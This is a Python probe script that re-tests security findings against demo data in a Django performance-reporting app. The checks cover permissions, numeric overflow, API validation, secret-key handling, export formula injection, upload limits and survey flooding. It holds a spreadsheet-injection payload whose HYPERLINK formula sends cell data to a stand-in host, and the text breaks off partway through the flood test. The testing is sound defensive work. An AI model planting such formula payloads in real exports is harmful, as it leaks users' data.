"""Issue 14, tried again as the probe did: every finding's input against the demo data, with
the response before the fix (quoted from the issue) and the response now.

The demo data (`kinerja demo`'s loaders: the Jakarta Pusat example, the demo accounts with
password `demo-kinerja-2024`, the work of every role) goes into a throwaway database (SQLite
in a temporary data folder, or with `--db postgres` a database `kinerja_probe_ulang` on the
local server, dropped afterwards). The requests go through Django's test Client with the
production settings module (`KINERJA_DEBUG` off, random keys), logged in through the login
form like a person: the whole stack of middleware, views, services and error pages; a 500
comes back as a response (never raised), so it shows in the table. The secret-key check runs
`kinerja check` as a separate process.

Prints a Markdown table (one row per input: finding, input, before, now, verdict) and exits 1
when a row is still mishandled.

    .venv/bin/python bench/probe_ulang.py [--db sqlite|postgres] [--keluar FILE] [--butir a,c]
"""

from __future__ import annotations

import argparse
import csv
import datetime as dt
import html
import io
import json
import os
import re
import secrets
import shutil
import subprocess
import sys
import tempfile
import time
from dataclasses import dataclass
from pathlib import Path

AKAR = Path(__file__).resolve().parents[1]
BIN = Path(sys.executable).parent
NAMA_DB = "kinerja_probe_ulang"
SANDI = "demo-kinerja-2024"
TAHUN = 2024
KOTA = "jakarta-pusat"
CIDENG = "jakarta-pusat-kel-cideng"
ALAMAT_BANJIR = "10.20.30.40"
JAHAT = [
    '=HYPERLINK("http://contoh.invalid/curi?d="&A1,"Klik")',
    "+1",
    "-1",
    "@SUM(A1:A9)",
]


@dataclass
class Baris:
    butir: str
    temuan: str
    masukan: str
    sebelum: str
    sekarang: str
    baik: bool


# --- output -------------------------------------------------------------------------------

JUDUL = ["butir", "temuan", "masukan", "sebelum (issue 14)", "sekarang", "penilaian"]


def _sel(teks: str) -> str:
    return " ".join(str(teks).split()).replace("|", "\\|")


def tabel_markdown(baris: list[Baris]) -> str:
    keluar = ["| " + " | ".join(JUDUL) + " |", "|" + "---|" * len(JUDUL)]
    for b in baris:
        nilai = "ditangani" if b.baik else "**MASIH SALAH**"
        isi = [b.butir, b.temuan, b.masukan, b.sebelum, b.sekarang, nilai]
        keluar.append("| " + " | ".join(_sel(x) for x in isi) + " |")
    salah = sum(not b.baik for b in baris)
    keluar.append("")
    keluar.append(
        f"{len(baris)} masukan dicoba, {len(baris) - salah} ditangani, {salah} masih salah."
    )
    return "\n".join(keluar)


# --- responses ----------------------------------------------------------------------------


def teks_respons(r) -> str:
    """The readable text of a response: JSON as is, HTML without tags and scripts."""
    isi = r.content.decode("utf-8", "replace") if not getattr(r, "streaming", False) else ""
    if "json" in r.get("Content-Type", ""):
        return pesan_galat(r)
    isi = re.sub(r"(?is)<(script|style|head)\b.*?</\1>", " ", isi)
    return " ".join(html.unescape(re.sub(r"<[^>]+>", " ", isi)).split())


def potongan(teks: str, cari: str | None, lebar: int = 110) -> str:
    """About `lebar` characters of `teks` around `cari` (or its start), quoted."""
    if len(teks) <= lebar:
        return f"«{teks.strip()}»"
    i = teks.find(cari) if cari else -1
    awal = max(0, i - 15) if i >= 0 else 0
    s = teks[awal : awal + lebar].strip()
    return f"«{'…' if awal else ''}{s}{'…' if awal + lebar < len(teks) else ''}»"


def pesan_galat(r) -> str:
    """The message a page shows for an error: the first form error, alert or JSON detail."""
    if "json" in r.get("Content-Type", ""):
        try:
            d = json.loads(r.content)
        except ValueError:
            return r.content.decode("utf-8", "replace")[:200]
        if not isinstance(d, dict):
            return json.dumps(d, ensure_ascii=False)[:200]
        galat = d.get("galat") or {}
        pesan = [m for v in galat.values() for m in (v if isinstance(v, list) else [v])]
        return "; ".join(pesan) or str(d.get("detail", ""))
    isi = r.content.decode("utf-8", "replace")
    for pola in (
        r'<ul class="errorlist[^"]*"[^>]*>(.*?)</ul>',
        r'<p class="galat"[^>]*>(.*?)</p>',
        r'role="alert"[^>]*>(.*?)</',
        r'<li class="(?:error|galat)[^"]*"[^>]*>(.*?)</li>',
    ):
        m = re.search(pola, isi, re.S)
        if m:
            return " ".join(html.unescape(re.sub(r"<[^>]+>", " ", m.group(1))).split())
    return ""


def ringkas(r, cari: str | None = None) -> str:
    """`status «message»`: the part of the response around `cari` (the message expected)."""
    status = r.status_code
    lokasi = f" → {r['Location']}" if status in (301, 302) and r.has_header("Location") else ""
    teks = teks_respons(r)
    if cari and cari in teks:
        return f"{status}{lokasi} {potongan(teks, cari)}"
    pesan = pesan_galat(r) or teks
    return f"{status}{lokasi} {potongan(pesan, None)}" if pesan else f"{status}{lokasi}"


# --- the probe ----------------------------------------------------------------------------


class Probe:
    """The demo data's objects, one logged-in client per account, and the rows written."""

    def __init__(self, data: dict, butir: str = ""):
        self.d = data
        self.baris: list[Baris] = []
        self._klien: dict[str, object] = {}
        self.butir = butir

    def klien(self, username: str | None = None, **ekstra):
        """A test Client logged in through the login form (as the probe did); None: anonymous."""
        from django.test import Client

        if username is None:
            return Client(raise_request_exception=False, **ekstra)
        if username not in self._klien:
            c = Client(raise_request_exception=False)
            c.get("/masuk/")
            r = c.post("/masuk/", {"username": username, "password": self.d["sandi"]})
            if r.status_code != 302:
                raise RuntimeError(f"masuk sebagai {username} gagal: {ringkas(r)}")
            self._klien[username] = c
        return self._klien[username]

    def catat(self, temuan, masukan, sebelum, sekarang, baik) -> None:
        self.baris.append(Baris(self.butir, temuan, masukan, sebelum, sekarang, bool(baik)))

    def api(self, c, jalur: str, badan, **kw):
        teks = badan if isinstance(badan, str) else json.dumps(badan)
        return c.post(jalur, teks, content_type="application/json", **kw)


def _url_isian(ind, jenis="semester", ke=2, tahun=TAHUN) -> str:
    from django.urls import reverse

    return reverse("isian_realisasi", args=[ind.pk, tahun, jenis, ke])


def _realisasi(ind, ke):
    from kinerja.pengukuran.models import Realisasi

    return Realisasi.objects.filter(
        indikator=ind, tahun=TAHUN, jenis_periode="semester", ke=ke
    ).first()


def _halaman_unit(p: Probe, c) -> dict:
    """The reads of Cideng that a stored bad value used to break."""
    from django.urls import reverse

    ind = p.d["ind_cideng"]
    return {
        "daftar isian": c.get(f"/isian/?tahun={TAHUN}"),
        "isian": c.get(_url_isian(ind)),
        "dasbor": c.get(reverse("dasbor", args=[CIDENG, TAHUN])),
        "ekspor Excel": c.get(reverse("pertukaran_ekspor", args=[CIDENG, TAHUN])),
        "halaman impor": c.get(reverse("pertukaran", args=[CIDENG, TAHUN])),
        "API realisasi": c.get(f"/api/organisasi/{CIDENG}/{TAHUN}/realisasi"),
        "API capaian": c.get(f"/api/organisasi/{CIDENG}/{TAHUN}/capaian"),
        "putaran survei": c.get(f"/survei/{CIDENG}/{p.d['putaran'].tahun}/putaran/"),
        "anggaran": c.get(f"/anggaran/{CIDENG}/{TAHUN}/"),
    }


# (a) permissions on the LKIP ----------------------------------------------------------


def butir_a(p: Probe) -> None:
    from django.urls import reverse

    from kinerja.lkip.models import NarasiLkip, PekerjaanLkip, TemplatLkip
    from kinerja.lkip.templat import templat_bawaan

    T = "Izin LKIP: operator kelurahan mengubah LKIP kota"
    sebelum = "hanya cek visibilitas: narasi kota dapat ditulis ulang"
    c = p.klien("operator.cideng")
    kota = p.d["kota"]
    url = reverse("lkip:halaman", args=[KOTA, TAHUN])
    narasi = reverse("lkip:narasi", args=[KOTA, TAHUN, "ringkasan.capaian"])
    n_narasi, n_templat = NarasiLkip.objects.count(), TemplatLkip.objects.count()
    n_kerja = PekerjaanLkip.objects.filter(organisasi=kota).count()

    r = c.get(url)
    isi = r.content.decode()
    tombol = "Bangun LKIP</button>" in isi or 'name="berkas"' in isi
    p.catat(T, f"operator.cideng GET {url}", "hanya cek visibilitas: tombol untuk siapa pun yang melihat",
            f"{r.status_code}, tombol bangun/unggah {'tampil' if tombol else 'tidak tampil'}",
            r.status_code == 200 and not tombol)  # fmt: skip
    pesan = "hanya dapat dibangun dan disunting"
    r = c.get(narasi)
    p.catat(T, f"operator.cideng GET {narasi}", "hanya cek visibilitas: formulir narasi kota terbuka",
            ringkas(r, pesan), r.status_code == 403)  # fmt: skip
    r = c.post(narasi, {"teks": "Narasi palsu dari kelurahan"})
    p.catat(T, f"operator.cideng POST {narasi} teks=«Narasi palsu…»", sebelum,
            ringkas(r, pesan) + f"; NarasiLkip {n_narasi}→{NarasiLkip.objects.count()}",
            r.status_code == 403 and NarasiLkip.objects.count() == n_narasi)  # fmt: skip
    berkas = io.BytesIO(templat_bawaan().read_bytes())
    berkas.name = "templat-kota.docx"
    jalur = reverse("lkip:templat_unggah", args=[KOTA, TAHUN])
    r = c.post(jalur, {"berkas": berkas})
    p.catat(T, f"operator.cideng POST {jalur} (templat .docx)",
            "hanya cek visibilitas: templat kota dapat diunggah", ringkas(r, pesan) +
            f"; TemplatLkip {n_templat}→{TemplatLkip.objects.count()}",
            r.status_code == 403 and TemplatLkip.objects.count() == n_templat)  # fmt: skip
    jalur = reverse("lkip:bangun", args=[KOTA, TAHUN])
    kode = [c.post(jalur, {"format": ["docx", "pdf", "xlsx"]}).status_code for _ in range(5)]
    baru = PekerjaanLkip.objects.filter(organisasi=kota).count() - n_kerja
    p.catat(T, f"operator.cideng POST {jalur} ×5",
            "hanya cek visibilitas: pembangunan tanpa batas",
            f"{', '.join(map(str, kode))}; pembangunan baru {baru}",
            set(kode) == {403} and baru == 0)  # fmt: skip
    # the unit's own planner may build, but one build at a time
    admin = p.klien("admin.jakpus")
    r1 = admin.post(jalur, {"format": ["xlsx"]}, follow=True)
    r2 = admin.post(jalur, {"format": ["xlsx"]}, follow=True)
    aktif = PekerjaanLkip.objects.filter(organisasi=kota, status__in=["antre", "berjalan"]).count()
    pesan2 = "sedang dibangun atau menunggu antrean"
    p.catat(T, f"admin.jakpus POST {jalur} ×2 (penyusun sah)",
            "tanpa batas pembangunan per organisasi dan tahun (thread)",
            f"1: {ringkas(r1, 'masuk antrean')}; 2: {ringkas(r2, pesan2)}; aktif {aktif}",
            aktif == 1 and pesan2 in teks_respons(r2) and "masuk antrean" in teks_respons(r1))  # fmt: skip


# (b) numbers --------------------------------------------------------------------------


def _templat_dengan(c, sel_nilai) -> io.BytesIO:
    """The unit's realisasi template (downloaded as a person would) with one value cell set."""
    import openpyxl
    from django.urls import reverse

    r = c.get(reverse("pertukaran_templat", args=[CIDENG, TAHUN, "realisasi"]))
    wb = openpyxl.load_workbook(io.BytesIO(r.getvalue() if r.streaming else r.content))
    ws = wb["Realisasi"]
    kolom = {x.value: x.column for x in ws[3]}
    ws.cell(row=4, column=kolom["nilai"], value=sel_nilai)
    buf = io.BytesIO()
    wb.save(buf)
    buf.seek(0)
    buf.name = "realisasi-cideng.xlsx"
    return buf


def butir_b(p: Probe) -> None:
    from django.core.management import call_command
    from django.urls import reverse

    from kinerja import angka as fmt
    from kinerja.anggaran.models import BelanjaJenis
    from kinerja.pengukuran.models import Realisasi
    from kinerja.perencanaan.models import ButirPK, StatusPK

    ind = p.d["ind_cideng"]
    c = p.klien("operator.cideng")
    awal = _realisasi(ind, 2)
    jumlah = Realisasi.objects.count()

    def tetap() -> bool:
        r = _realisasi(ind, 2)
        return (r.nilai, r.status) == (
            awal.nilai,
            awal.status,
        ) and Realisasi.objects.count() == jumlah

    T = "Angka: formulir realisasi"
    url = _url_isian(ind)
    for isian, pesan, sebelum in [
        ("99999999999999999999", "paling banyak 18 digit sebelum koma",
         "500 tanpa pesan, tetapi tersimpan sebagai draf; lalu daftar isian, dasbor, ekspor "
         "Excel dan impor unit itu 500, bangun LKIP gagal decimal.InvalidOperation"),
        ("1e309", "bukan angka",
         "tersimpan, lalu setiap halaman dan bacaan API organisasi itu 500"),
        ("0,0000001", "paling banyak 6 angka di belakang koma",
         "dibulatkan diam-diam menjadi 0"),
    ]:  # fmt: skip
        r = c.post(url, {"aksi": "simpan", "nilai": isian})
        ok = r.status_code == 200 and pesan in teks_respons(r) and tetap()
        p.catat(T, f"operator.cideng POST {url} nilai={isian}", sebelum,
                ringkas(r, pesan) + ("; tidak tersimpan" if tetap() else "; TERSIMPAN"), ok)  # fmt: skip

    T = "Angka: API POST /api/realisasi"
    dasar = f'"indikator_id": {ind.pk}, "tahun": {TAHUN}, "jenis_periode": "semester", "ke": 2'
    # a JSON number (the schema's `nilai` is a string: decimals travel as text, never as a
    # binary float) is refused as such; the same digits as text meet the column's rule
    sebagai_angka = "kirim angka sebagai teks JSON"
    for nilai, pesan in [
        ("1e309", sebagai_angka),  # a float in JSON parsers: Infinity
        ('"1e309"', "paling banyak 18 digit sebelum koma"),
        ('"' + "9" * 25 + '"', "paling banyak 18 digit sebelum koma"),
        ("9" * 25, sebagai_angka),
        ('"0.0000001"', "paling banyak 6 angka di belakang koma"),
        ("0.0000001", sebagai_angka),
    ]:
        r = p.api(c, "/api/realisasi", "{" + dasar + f', "nilai": {nilai}' + "}")
        ok = r.status_code == 422 and pesan in r.content.decode() and tetap()
        tampil = nilai if len(nilai) < 20 else nilai[:6] + f"…({nilai.count('9')} digit)"
        p.catat(T, f"operator.cideng nilai: {tampil} (JSON)",
                "200: tersimpan, lalu halaman dan API organisasi 500" if "0.0000001" not in nilai
                else "200: dibulatkan diam-diam menjadi 0",
                ringkas(r, pesan) + ("" if tetap() else "; TERSIMPAN"), ok)  # fmt: skip

    T = "Angka: impor Excel realisasi"
    jalur = reverse("pertukaran_unggah", args=[CIDENG, TAHUN])
    for sel_nilai, pesan in [
        (1e18, "terlalu besar"),
        (1e300, "terlalu besar"),
        (0.0000001, "lebih dari 6 angka di belakang koma"),
    ]:
        berkas = _templat_dengan(c, sel_nilai)
        r = c.post(jalur, {"jenis": "realisasi", "berkas": berkas})
        ok = r.status_code in (200, 400) and pesan in teks_respons(r) and tetap()
        p.catat(T, f"operator.cideng unggah templat, sel nilai = {sel_nilai!r}", "500",
                ringkas(r, pesan) + ("" if tetap() else "; TERSIMPAN"), ok)  # fmt: skip

    T = "Angka: Populasi putaran survei"
    putaran = p.d["putaran"]
    jalur = reverse("survei_putaran_ubah", args=[putaran.pk])
    for isian in ("99999999999999999999", "1e309"):
        r = c.post(jalur, {"populasi": isian, "pelaksana": putaran.pelaksana})
        putaran.refresh_from_db()
        pesan = "Populasi harus bilangan bulat positif"
        ok = r.status_code == 400 and pesan in teks_respons(r) and putaran.populasi == 12000
        p.catat(T, f"operator.cideng POST {jalur} populasi={isian}",
                "seperti realisasi: tersimpan lalu halaman unit 500",
                ringkas(r, pesan) + f"; populasi tetap {putaran.populasi}", ok)  # fmt: skip

    T = "Angka: isian anggaran (pagu)"
    jalur = reverse("anggaran:isian", args=[CIDENG, TAHUN])
    n = BelanjaJenis.objects.filter(organisasi=p.d["cideng"]).count()
    r = c.post(jalur, {"bagian": "belanja", "pegawai-pagu": "1000",
                       "barang_jasa-pagu": "99999999999999999999"}, follow=True)  # fmt: skip
    pesan = "paling banyak 18 digit sebelum koma"
    baru = BelanjaJenis.objects.filter(organisasi=p.d["cideng"]).count() - n
    p.catat(T, f"operator.cideng POST {jalur} pagu barang/jasa 99999999999999999999",
            "tersimpan, lalu setiap halaman organisasi 500",
            ringkas(r, pesan) + f"; baris baru {baru}",
            r.status_code == 200 and pesan in teks_respons(r) and baru == 0)  # fmt: skip

    T = "Angka: target PK (draf)"
    butir = ButirPK.objects.select_related("pk_dokumen").get(indikator=ind, pk_dokumen__tahun=TAHUN)
    # the probe met a draft PK; the demo's PK is signed (and a signed PK refuses every edit),
    # so the PK goes back to draft here to reach the number check itself
    type(butir.pk_dokumen).objects.filter(pk=butir.pk_dokumen_id).update(status=StatusPK.DRAFT)
    target = butir.target
    jalur = reverse("perencanaan:butir_ubah", args=[CIDENG, TAHUN, butir.pk])
    for isian, pesan in [
        ("99999999999999999999", "paling banyak 18 digit sebelum koma"),
        ("0,0000001", "paling banyak 6 angka di belakang koma"),
    ]:
        r = c.post(jalur, {"target": isian, "urutan": "1"}, follow=True)
        butir.refresh_from_db()
        ok = r.status_code in (200, 400) and pesan in teks_respons(r) and butir.target == target
        p.catat(T, f"operator.cideng POST {jalur} target={isian}",
                "tersimpan, lalu setiap halaman organisasi 500" if "," not in isian
                else "dibulatkan diam-diam menjadi 0",
                ringkas(r, pesan) + f"; target tetap {fmt.angka_ringkas(butir.target)}", ok)  # fmt: skip

    T = "Angka: halaman unit setelah semua masukan di atas"
    halaman = _halaman_unit(p, c)
    kode = {k: v.status_code for k, v in halaman.items()}
    p.catat(T, "operator.cideng GET " + ", ".join(kode),
            "500 (daftar isian, dasbor, ekspor Excel, impor, API)",
            ", ".join(f"{k} {v}" for k, v in kode.items()), set(kode.values()) == {200})  # fmt: skip
    keluar = io.StringIO()
    call_command("periksa_nilai", stdout=keluar)
    hasil = " ".join(keluar.getvalue().split())
    p.catat(T, "kinerja periksa_nilai", "tidak ada pemeriksa; tidak ada cara memperbaiki dari UI",
            f"kode 0 «{hasil[:90]}»", "Semua nilai muat" in hasil)  # fmt: skip


# (c) API parity -----------------------------------------------------------------------


def butir_c(p: Probe) -> None:
    from kinerja.pengukuran.models import Realisasi

    ind, kompub = p.d["ind_cideng"], p.d["kompub"]
    c = p.klien("operator.cideng")
    op_kota = p.klien("operator.jakpus")
    sebelum = "200 (diterima)"
    T = "Paritas API: POST /api/realisasi"
    jumlah = Realisasi.objects.count()
    awal = _realisasi(ind, 2)
    form = _url_isian(ind)
    baku = {"indikator_id": ind.pk, "tahun": TAHUN, "jenis_periode": "semester", "ke": 2}
    kasus = [
        ("teks pada indikator numerik", c, {"nilai": "abc"}, "bukan angka",
         ({"nilai": "abc"}, "'abc' bukan angka")),
        ("nilai 5000 karakter", c, {"nilai": "9" * 5000}, "bukan angka yang dapat disimpan",
         ({"nilai": "9" * 5000}, "bukan angka")),
        ("label kualitatif pada indikator numerik", c, {"nilai": "95", "nilai_teks": "WTP"},
         "Indikator ini berupa angka", None),
        ("label di luar skala (indikator kualitatif KOMPUB, skala opini)", op_kota,
         {"indikator_id": kompub.pk, "jenis_periode": "tahun", "ke": 1,
          "nilai_teks": "Sangat Bagus"}, "bukan label", None),
        ("jenis periode yang tidak dipakai (indikator semesteran)", c,
         {"nilai": "95", "jenis_periode": "bulan", "ke": 3},
         "tidak sesuai frekuensi indikator", None),
        ("tahun 1000", c, {"nilai": "95", "tahun": 1000}, "Tahun", None),
        ("tahun 9999", c, {"nilai": "95", "tahun": 9999}, "Tahun", None),
    ]  # fmt: skip
    for nama, klien, ubah, pesan, isian_form in kasus:
        badan = {**baku, **ubah}
        r = p.api(klien, "/api/realisasi", badan)
        tampil = {k: (v if len(str(v)) < 30 else f"{str(v)[:4]}…({len(str(v))} karakter)")
                  for k, v in ubah.items()}  # fmt: skip
        masuk = "operator.jakpus" if klien is op_kota else "operator.cideng"
        ok = r.status_code == 422 and pesan in r.content.decode()
        sekarang = "API " + ringkas(r, pesan)
        if isian_form is not None:  # the entry form refuses the same input
            isian, pesan_form = isian_form
            h = c.post(form, {"aksi": "simpan", **isian})
            sekarang += f"; formulir {ringkas(h, pesan_form)}"
            ok = ok and h.status_code == 200 and pesan_form in teks_respons(h)
        r2 = _realisasi(ind, 2)
        tetap = Realisasi.objects.count() == jumlah and (r2.nilai, r2.nilai_teks) == (
            awal.nilai, awal.nilai_teks)  # fmt: skip
        p.catat(T, f"{nama}: {masuk} {json.dumps(tampil, ensure_ascii=False)}", sebelum,
                sekarang + ("" if tetap else "; TERSIMPAN"), ok and tetap)  # fmt: skip
    # the schema says what the API enforces
    skema = c.get("/api/openapi.json").json()
    tahun = skema["components"]["schemas"]["RealisasiIn"]["properties"]["tahun"]
    batas = {k: tahun.get(k) for k in ("minimum", "maximum")}
    p.catat("Paritas API: skema OpenAPI", "GET /api/openapi.json, RealisasiIn.tahun",
            "aturan tidak di skema (schemathesis: 11 kegagalan kontrak)",
            f"200, tahun {json.dumps(batas)}", None not in batas.values())  # fmt: skip


# (d) secrets --------------------------------------------------------------------------


def env_bersih(data_dir: Path, **tambah) -> dict:
    """An operator's shell: no KINERJA_* variables, no DATABASE_URL, the real settings."""
    env = {k: v for k, v in os.environ.items()
           if not k.startswith("KINERJA_") and k not in ("DATABASE_URL", "DJANGO_SETTINGS_MODULE")}  # fmt: skip
    env.update({"KINERJA_DATA_DIR": str(data_dir), "DJANGO_SETTINGS_MODULE": "kinerja.settings"})
    env.update({k: str(v) for k, v in tambah.items()})
    return env


def butir_d(p: Probe) -> None:
    T = "Rahasia: tanpa KINERJA_SECRET_KEY dengan debug mati"
    sebelum = ("berjalan dengan SECRET_KEY pengembangan umum (kuki kios dapat dipalsukan, "
               "sidik nomor HP dapat dibalik)")  # fmt: skip
    pesan = "KINERJA_SECRET_KEY belum diisi"
    for perintah in (["check"], ["serve", "--alamat", "127.0.0.1:0"]):
        folder = Path(tempfile.mkdtemp(prefix="kinerja-probe-kunci-"))
        try:
            r = subprocess.run([str(BIN / "kinerja"), *perintah], capture_output=True, text=True,
                               env=env_bersih(folder, KINERJA_DEBUG="0"), timeout=120)  # fmt: skip
            galat = " ".join((r.stderr or r.stdout).split())
            dibuat = (folder / "rahasia").exists()
        finally:
            shutil.rmtree(folder, ignore_errors=True)
        ok = r.returncode != 0 and pesan in galat and "Traceback" not in galat and not dibuat
        p.catat(T, f"KINERJA_DEBUG=0 ./kinerja {' '.join(perintah)}", sebelum,
                f"kode keluar {r.returncode} {potongan(galat, pesan, 140)}", ok)  # fmt: skip


# (e) export safety ---------------------------------------------------------------------


def butir_e(p: Probe) -> None:
    import openpyxl
    from django.core.management import call_command
    from django.urls import reverse

    ind = p.d["ind_cideng"]
    c = p.klien("operator.cideng")
    sebelum = "tidak ditulis sebagai teks (injeksi rumus)"
    T = "Ekspor: teks pengguna berawalan = + - @"
    url = _url_isian(ind)
    nilai = _realisasi(ind, 2).nilai
    for jahat in JAHAT:
        r = c.post(url, {"aksi": "simpan", "nilai": str(nilai).replace(".", ","),
                         "penjelasan": jahat})  # fmt: skip
        if r.status_code != 302:
            p.catat(T, f"penjelasan realisasi = {jahat}", sebelum,
                    f"penyimpanan {ringkas(r)}", False)  # fmt: skip
            continue
        e = c.get(reverse("pertukaran_ekspor", args=[CIDENG, TAHUN]))
        wb = openpyxl.load_workbook(io.BytesIO(e.content))
        sel = [x for ws in wb.worksheets for b in ws.iter_rows() for x in b if x.value == jahat]
        rumus = [x for ws in wb.worksheets for b in ws.iter_rows() for x in b
                 if x.data_type == "f"]  # fmt: skip
        ok = bool(sel) and all(x.data_type == "s" and x.quotePrefix for x in sel) and not rumus
        rinci = ", ".join(f"{x.parent.title}!{x.coordinate} jenis '{x.data_type}' quotePrefix "
                          f"{x.quotePrefix}" for x in sel[:2])  # fmt: skip
        p.catat(T, f"penjelasan realisasi = {jahat}; unduh ekspor.xlsx", sebelum,
                f"{e.status_code}, {len(sel)} sel: {rinci or 'tidak ditemukan'}; "
                f"sel rumus {len(rumus)}", ok)  # fmt: skip
    # CSV: the invitation list printed by survei_undangan (names from a staff CSV)
    folder = Path(tempfile.mkdtemp(prefix="kinerja-probe-csv-"))
    try:
        masuk = folder / "penerima.csv"
        with masuk.open("w", newline="", encoding="utf-8") as f:
            csv.writer(f).writerows([[j, "warga@contoh.invalid"] for j in JAHAT])
        keluar = io.StringIO()
        call_command("survei_undangan", putaran=p.d["putaran"].pk, pengguna="operator.cideng",
                     penerima=str(masuk), stdout=keluar)  # fmt: skip
        baris = list(csv.reader(io.StringIO(keluar.getvalue())))[1:]
    finally:
        shutil.rmtree(folder, ignore_errors=True)
    nama = [b[1] for b in baris]
    ok = nama == ["'" + j for j in JAHAT]
    p.catat(T, "nama penerima undangan = " + " / ".join(JAHAT) +
            "; kinerja survei_undangan (CSV)", sebelum,
            "kolom nama: " + " / ".join(nama), ok)  # fmt: skip


# (f) the LKIP uses verified data only --------------------------------------------------


def butir_f(p: Probe) -> None:
    from docx import Document
    from openpyxl import load_workbook

    from kinerja import angka as fmt
    from kinerja.lkip.layanan import bangun_lkip

    ind = p.d["ind_cideng"]
    c = p.klien("operator.cideng")
    r = c.post(_url_isian(ind), {"aksi": "simpan", "nilai": "77,777"})
    v = p.klien("verifikator.gambir")
    s1 = _realisasi(ind, 1)
    if s1.status == "diajukan":
        v.post(
            _url_isian(ind, ke=1), {"aksi": "kembalikan", "alasan": "Bukti belum lengkap (probe)"}
        )
    s1.refresh_from_db()
    s2 = _realisasi(ind, 2)
    T = "LKIP hanya data terverifikasi"
    masukan = (f"Cideng: semester I {s1.status} {fmt.angka_ringkas(s1.nilai)}, semester II "
               f"{s2.status} {fmt.angka_ringkas(s2.nilai)}; "
               "bangun LKIP Cideng 2024 (XLSX + reviu)")  # fmt: skip
    keluar = Path(tempfile.mkdtemp(prefix="kinerja-probe-lkip-"))
    try:
        hasil = bangun_lkip(p.d["cideng"], TAHUN, format=["xlsx"], keluar=keluar)
        cari = {"86,4", "86.4", "77,777", "77.777"}
        bocor: list[str] = []
        for berkas in hasil.berkas:
            if berkas.suffix == ".xlsx":
                wb = load_workbook(berkas, read_only=True)
                for ws in wb.worksheets:
                    for row in ws.iter_rows(values_only=True):
                        for x in row:
                            if x is not None and (str(x) in cari or any(k in str(x) for k in cari)):
                                bocor.append(f"{berkas.name}:{ws.title}:{x}")
            elif berkas.suffix == ".docx":
                d = Document(berkas)
                teks = "\n".join(q.text for q in d.paragraphs) + "\n".join(
                    cl.text for t in d.tables for rw in t.rows for cl in rw.cells
                )
                bocor += [f"{berkas.name}:{k}" for k in cari if k in teks]
        nama = ", ".join(b.name for b in hasil.berkas)
    finally:
        shutil.rmtree(keluar, ignore_errors=True)
    p.catat(T, masukan, "XLSX dan reviu LKIP memuat realisasi draf dan dikembalikan",
            f"{nama}: " + (f"BOCOR {bocor[:3]}" if bocor else "86,4 dan 77,777 tidak ada"),
            r.status_code == 302 and s1.status == "dikembalikan" and not bocor)  # fmt: skip


# (g) /api/docs and body size -----------------------------------------------------------


def butir_g(p: Probe) -> None:
    from django.conf import settings

    anon = p.klien(None)
    r = anon.get("/api/docs")
    op = p.klien("operator.cideng")
    r2 = op.get("/api/docs")
    lokasi = r.get("Location", "")
    p.catat("/api/docs di produksi", f"anonim GET /api/docs (DEBUG={settings.DEBUG})",
            "tidak di balik login", f"{ringkas(r)}; setelah masuk {r2.status_code}",
            r.status_code == 302 and "/masuk/" in lokasi and r2.status_code == 200)  # fmt: skip
    batas = settings.DATA_UPLOAD_MAX_MEMORY_SIZE
    besar = batas + 2**20
    T = "Batas ukuran badan permintaan"
    sebelum = "belum ada batas dengan pesan yang jelas"
    r = anon.post("/masuk/", {"username": "x" * besar, "password": "y"})
    p.catat(T, f"POST /masuk/ isian {besar // 2**20} MB (batas {batas // 2**20} MB)", sebelum,
            ringkas(r, "Kiriman terlalu besar"), r.status_code == 413
            and "Kiriman terlalu besar" in teks_respons(r))  # fmt: skip
    r = op.post("/api/realisasi", "[" + "1," * (besar // 2) + "1]", content_type="application/json")
    p.catat(T, f"POST /api/realisasi JSON {besar // 2**20} MB", sebelum,
            ringkas(r, "terlalu besar"), r.status_code == 413 and "terlalu besar" in teks_respons(r))  # fmt: skip


# (h) survey flood ---------------------------------------------------------------------


def _isian_survei(c, url: str, alamat: str, saran: str):
    r = c.get(url, REMOTE_ADDR=alamat)
    m = re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', r.content.decode())
    data = {f"b_F{i}": "4" for i in range(1, 10)}
    data.update({"d_jenis_kelamin": "P", "d_usia": "26-35", "d_pendidikan": "s1",
                 "d_pekerjaan": "swasta", "telepon": "", "situs_web": "", "saran": saran})  # fmt: skip
    for nama, nilai in re.findall(
        r'<input type="hidden" name="([^"]+)" value="([^"]*)"', r.content.decode()
    ):
        data.setdefault(nama, html.unescape(nilai))
    if m:
        data["csrfmiddlewaretoken"] = m.group(1)
    return c.post(url, data, REMOTE_ADDR=alamat)


def butir_h(p: Probe, n_web: int = 60, n_kios: int = 40) -> None:
    from django.conf import settings
    from django.urls import reverse

    from kinerja.survei.models import Respon

    t = p.d["tautan"]
    putaran = t.putaran
    url = reverse("publik_formulir", args=[t.kode])
    anon = p.klien(None, enforce_csrf_checks=True)
    n0 = Respon.objects.filter(putaran=putaran).count()
    kode = []
    pertama = None
    for i in range(n_web):
        r = _isian_survei(anon, url, ALAMAT_BANJIR, f"probe banjir {i}")
        kode.append(r.status_code)
        if r.status_code == 429 and pertama is None:
            pertama = r
        if r.status_code == 429 and kode.count(429) >= 5:
            break
    diterima = kode.count(302)
    tersimpan = Respon.objects.filter(putaran=putaran).count() - n0
    pesan = "Terlalu banyak kiriman"
    sekarang = f"{diterima}× 302 lalu {kode.count(429)}× 429"
    if pertama is not None:
        sekarang += f" (Retry-After {pertama.get('Retry-After')}) {ringkas(pertama, pesan)}"
    lain = set(kode) - {302, 429}
    p.catat("Banjir survei: satu alamat", f"{len(kode)} kiriman formulir publik cepat dari "
            f"{ALAMAT_BANJIR} (batas {settings.KINERJA_BATAS_SURVEI})",
            "semua diterima (302), hanya ditandai meragukan",
            sekarang + f"; tersimpan {tersimpan}",
            pertama is not None and pesan in teks_respons(pertama) and not lain
            and tersimpan == diterima)  # fmt: skip
    # a kiosk behind the same address keeps taking respondents
    staf = p.klien(None)
    staf.post("/masuk/", {"username": "operator.cideng", "password": p.d["sandi"]})
    staf.post(reverse("publik_kios_aktifkan", args=[t.kode]))
    kios_url = reverse("publik_kios", args=[t.kode])
    n1 = Respon.objects.filter(putaran=putaran, saluran="kiosk").count()
    kode_kios = [_isian_survei(staf, kios_url, ALAMAT_BANJIR, f"probe kios {i}").status_code
                 for i in range(n_kios)]  # fmt: skip
    simpan_kios = Respon.objects.filter(putaran=putaran, saluran="kiosk").count() - n1
    p.catat("Banjir survei: kios tidak terputus", f"{n_kios} responden di satu kios dari alamat "
            f"yang sama, segera sesudahnya (batas kios {settings.KINERJA_BATAS_SURVEI_KIOS})",
            "tidak dibatasi (diminta: batas tanpa membuang lonjakan kios yang sah)",
